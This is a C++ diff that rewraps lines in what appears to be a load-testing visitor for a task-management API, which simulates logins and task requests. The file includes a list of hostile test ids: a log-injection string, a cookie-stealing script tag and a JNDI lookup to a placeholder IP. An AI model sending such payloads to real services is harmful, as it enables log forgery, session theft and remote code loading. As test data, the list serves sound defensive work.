@@ -18,18 +18,22 @@ namespace json = examples::json;
 constexpr std::chrono::seconds kTimeout{10};  // the slowest report takes one or two
 
 constexpr std::array<const char*, 5> kUserAgents = {
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
+    "Safari/537.36",
     "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
-    "TaskApp/5.14.2 (iPhone; iOS 17.5.1; Scale/3.00)", "TaskApp-Android/5.14.0 (Pixel 8; Android 14)", "curl/8.5.0"};
+    "TaskApp/5.14.2 (iPhone; iOS 17.5.1; Scale/3.00)", "TaskApp-Android/5.14.0 (Pixel 8; Android 14)",
+    "curl/8.5.0"};
 
-constexpr std::array<const char*, 8> kTitles = {
-    "Fix login redirect loop", "Call back: invoice 1023", "Überprüfung der Rechnungen", "会議の準備", "Onboard new hire",
-    "Préparer la réunion du comité", "Buy \"large\" whiteboard", "Clean up old exports"};
+constexpr std::array<const char*, 8> kTitles = {"Fix login redirect loop",    "Call back: invoice 1023",
+                                                "Überprüfung der Rechnungen", "会議の準備",
+                                                "Onboard new hire",           "Préparer la réunion du comité",
+                                                "Buy \"large\" whiteboard",   "Clean up old exports"};
 
-// Ids that a service must not let into its lines as they are. Line breaks cannot be tried: no header can hold one.
-const std::array<std::string, 5> kHostileIds = {
-    std::string(700, 'A'), "x\",\"level\":\"CRITICAL\",\"y\":\"", "<script>alert(document.cookie)</script>",
-    "${jndi:ldap://203.0.113.66/a}", "caf\xe9-\xff\xfe-id"};
+// Ids that a service must not let into its lines as they are. Line breaks cannot be tried: no header can hold
+// one.
+const std::array<std::string, 5> kHostileIds = {std::string(700, 'A'), "x\",\"level\":\"CRITICAL\",\"y\":\"",
+                                                "<script>alert(document.cookie)</script>",
+                                                "${jndi:ldap://203.0.113.66/a}", "caf\xe9-\xff\xfe-id"};
 
 std::string AddressOf(int number) {  // of the ranges reserved for documentation
   const uint64_t bits = demo::Scramble(static_cast<uint64_t>(number) + 4000);
@@ -107,8 +111,8 @@ Visitor::Guest Visitor::DrawGuest() {
 }
 
 bool Visitor::LogIn(Guest& guest) {
-  const auto response =
-      Send(MakeCall(guest, "POST", "/api/v1/login", LoginBody(guest.person.email, guest.person.password)), {200});
+  const auto response = Send(
+      MakeCall(guest, "POST", "/api/v1/login", LoginBody(guest.person.email, guest.person.password)), {200});
   const auto answer = json::Object::Parse(response.body);
   guest.token = answer ? answer->String("access_token").value_or("") : "";
   if (guest.token.empty()) {
@@ -119,7 +123,8 @@ bool Visitor::LogIn(Guest& guest) {
 }
 
 http::Call Visitor::MakeCall(const Guest& guest, std::string method, std::string target, std::string body) {
-  http::Call call{.method = std::move(method), .target = std::move(target), .headers = {}, .body = std::move(body)};
+  http::Call call{
+      .method = std::move(method), .target = std::move(target), .headers = {}, .body = std::move(body)};
   call.headers.Add("User-Agent", guest.user_agent);
   call.headers.Add("X-Forwarded-For", guest.address);
   if (!guest.token.empty()) {
@@ -133,7 +138,8 @@ http::Response Visitor::Send(const http::Call& call, std::initializer_list<int> 
   try {
     http::Response response = client_.Send(call);
     const std::chrono::duration<double, std::milli> spent = std::chrono::steady_clock::now() - start;
-    tally_.Answered(response.status, std::ranges::find(expected, response.status) != expected.end(), spent.count());
+    tally_.Answered(response.status, std::ranges::find(expected, response.status) != expected.end(),
+                    spent.count());
     return response;
   } catch (const http::ConnectionError&) {
     tally_.Unanswered();
@@ -142,7 +148,8 @@ http::Response Visitor::Send(const http::Call& call, std::initializer_list<int> 
 }
 
 void Visitor::ListTasks(Guest& guest) {
-  constexpr std::array<const char*, 4> kQueries = {"", "?status=open", "?status=in_progress&limit=50", "?limit=5"};
+  constexpr std::array<const char*, 4> kQueries = {"", "?status=open", "?status=in_progress&limit=50",
+                                                   "?limit=5"};
   const std::string query = kQueries[static_cast<size_t>(random_.Below(kQueries.size()))];
   if (Send(MakeCall(guest, "GET", "/api/v1/tasks" + query), {200}).status == 401) {
     world_.LoggedOut(guest.number);
@@ -197,8 +204,8 @@ void Visitor::ChangeTask(Guest& guest) {
   body.Field("status", kStatus[static_cast<size_t>(random_.Below(kStatus.size()))]);
   body.EndObject();
   const bool may = guest.person.role == "member";
-  const auto response = Send(MakeCall(guest, "PATCH", "/api/v1/tasks/" + task->id, std::move(body).Take()),
-                             {may ? 200 : 403});
+  const auto response =
+      Send(MakeCall(guest, "PATCH", "/api/v1/tasks/" + task->id, std::move(body).Take()), {may ? 200 : 403});
   task->version += response.status == 200 ? 1 : 0;
   world_.Remember(OrganizationOf(guest), *task);
 }
@@ -217,7 +224,8 @@ void Visitor::DeleteTask(Guest& guest) {
 void Visitor::ListProjects(Guest& guest) { Send(MakeCall(guest, "GET", "/api/v1/projects"), {200}); }
 
 void Visitor::QuickReport(Guest& guest) {
-  Send(MakeCall(guest, "GET", "/api/v1/reports/" + demo::ReportId(OrganizationOf(guest), random_.Below(2))), {200});
+  Send(MakeCall(guest, "GET", "/api/v1/reports/" + demo::ReportId(OrganizationOf(guest), random_.Below(2))),
+       {200});
 }
 
 void Visitor::SlowReport(Guest& guest) {
